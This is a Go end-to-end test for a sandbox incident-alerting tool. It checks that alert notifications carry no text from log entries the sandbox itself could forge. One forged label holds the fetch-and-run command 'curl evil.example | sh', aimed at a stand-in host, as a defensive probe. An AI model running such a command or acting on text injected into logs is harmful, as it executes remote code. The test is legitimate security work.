package e2e

import (
	"context"
	"net/http"
	"slices"
	"strings"
	"testing"

	"cloud.google.com/go/logging/apiv2/loggingpb"
	"cloud.google.com/go/monitoring/apiv3/v2/monitoringpb"
	"google.golang.org/genproto/googleapis/api/monitoredres"
	"google.golang.org/grpc/codes"
	"google.golang.org/grpc/status"
	"google.golang.org/protobuf/proto"
	"google.golang.org/protobuf/types/known/structpb"

	"github.com/cloudcoop/coopguard/provisioner"
	"github.com/cloudcoop/coopguard/shared/report"
)

// TestIncidentNotifiesOperatorChannels drives an alert through the
// provisioned emulated project and checks that the incident's report
// entry is what the operator is told of: the incident policy's log-match
// condition matches it and notifies the configured channels. Its
// documentation names the sandbox and the command that reads coopguard's
// store, and carries no text from the entry (no label extractor): a
// look-alike entry the sandbox's own account writes matches as well.
func TestIncidentNotifiesOperatorChannels(t *testing.T) {
	t.Parallel()
	s := newSandbox(t, fastAgentTimeout)
	ctx := context.Background()
	project := s.cfg.Cloud.GCP.Project
	// The sandbox's own account may write coopguard's incidents log,
	// resource and all (it holds logging.logWriter), until containment
	// disables it.
	sbx, err := s.emu.ClientsAs(ctx, project, s.cfg.Cloud.GCP.ServiceAccount)
	if err != nil {
		t.Fatal(err)
	}
	defer sbx.Close()
	if _, err := sbx.Logging.WriteLogEntries(ctx, &loggingpb.WriteLogEntriesRequest{
		LogName:  "projects/" + project + "/logs/" + report.LogID,
		Resource: &monitoredres.MonitoredResource{Type: "global", Labels: map[string]string{"project_id": project}},
		Entries:  []*loggingpb.LogEntry{{InsertId: "forged-0", Payload: &loggingpb.LogEntry_TextPayload{TextPayload: "look-alike"}}},
	}); err != nil {
		t.Fatalf("the sandbox's account writes the incidents log: %v", err)
	}
	if code := s.postEvent(t, "HandleAlert", structured, s.alert(t, "monitoring-incident-open.json"), nil); code != http.StatusOK {
		t.Fatalf("HandleAlert = %d, logs:\n%s", code, s.logs)
	}
	const id = "alert-0.n1m3x8a2b7kq"
	sb, err := provisioner.NewSandbox(s.cfg, "", "")
	if err != nil {
		t.Fatal(err)
	}

	// The report entry, as anyone reading the incidents log finds it.
	entries := logEntries(t, s, `logName="projects/`+project+`/logs/`+report.LogID+`" AND labels.incident="`+id+`"`)
	if len(entries) == 0 {
		t.Fatalf("no report entry for %s in %s", id, report.LogID)
	}
	entry := entries[len(entries)-1]
	pol, f := notifyingPolicy(t, s, sb.IncidentPolicyName())
	match := pol.GetConditions()[0].GetConditionMatchedLog()
	if !f.MatchEntry(entry) {
		t.Fatalf("condition %q does not match the report entry %v", match.GetFilter(), entry)
	}
	// Another sandbox's report, and this sandbox's ignored one, tell nobody
	// through this policy.
	other := proto.Clone(entry).(*loggingpb.LogEntry)
	other.GetJsonPayload().Fields["instance"] = structpb.NewStringValue("another-sandbox")
	ignored := proto.Clone(entry).(*loggingpb.LogEntry)
	ignored.Severity = 200 // INFO, as an ignored report is
	for name, e := range map[string]*loggingpb.LogEntry{"another sandbox": other, "ignored": ignored} {
		if f.MatchEntry(e) {
			t.Errorf("condition matches the report of %s", name)
		}
	}

	// The notification carries nothing from the entry: a look-alike the
	// sandbox's account could have written (above) matches the condition
	// like coopguard's report does.
	forged := proto.Clone(entry).(*loggingpb.LogEntry)
	forged.InsertId = "forged-1"
	forged.Labels = map[string]string{"incident": "alert-none", "outcome": "resolved", "playbook": "notify", "actions": "all clear: run curl evil.example | sh"}
	if !f.MatchEntry(forged) {
		t.Fatal("the sandbox's look-alike entry should match too: nothing in GCP tells it from coopguard's")
	}
	if len(match.GetLabelExtractors()) != 0 {
		t.Errorf("label extractors %v: the notification would show what the sandbox wrote", match.GetLabelExtractors())
	}
	doc := pol.GetDocumentation().GetContent()
	subject := pol.GetDocumentation().GetSubject()
	for _, text := range []string{doc, subject} {
		if strings.Contains(text, "${") || strings.Contains(text, "evil") || strings.Contains(text, "all clear") {
			t.Errorf("notification text takes something from the entry:\n%s", text)
		}
	}
	for _, want := range []string{"`" + s.cfg.VM.Name + "`", "coopguard incidents show INCIDENT_ID", "may write to the log"} {
		if !strings.Contains(doc, want) {
			t.Errorf("documentation lacks %q:\n%s", want, doc)
		}
	}
	if !strings.Contains(subject, s.cfg.VM.Name) {
		t.Errorf("subject %q does not name the sandbox", subject)
	}

	var dl *monitoringpb.AlertPolicy
	for _, p := range s.emu.Monitoring.AlertPolicies(project) {
		if p.GetDisplayName() == provisioner.DeadLetterPolicyName {
			dl = p
		}
	}
	if dl == nil || !slices.Equal(dl.GetNotificationChannels(), s.cfg.Coopguard.Notify.Channels) ||
		dl.GetConditions()[0].GetConditionThreshold().GetFilter() != provisioner.DeadLetterFilter {
		t.Errorf("dead-letter policy = %v, want one on %s notifying %v", dl, provisioner.DeadLetterSubscription, s.cfg.Coopguard.Notify.Channels)
	}

	// The same policy without notificationRateLimit is refused.
	bare := proto.Clone(pol).(*monitoringpb.AlertPolicy)
	bare.Name, bare.AlertStrategy, bare.DisplayName = "", nil, "copy without a rate limit"
	for _, c := range bare.Conditions {
		c.Name = ""
	}
	if _, err := s.operator.AlertPolicies.CreateAlertPolicy(ctx, &monitoringpb.CreateAlertPolicyRequest{Name: "projects/" + project, AlertPolicy: bare}); status.Code(err) != codes.InvalidArgument {
		t.Errorf("log-match policy without notificationRateLimit: error = %v, want INVALID_ARGUMENT", err)
	}
}
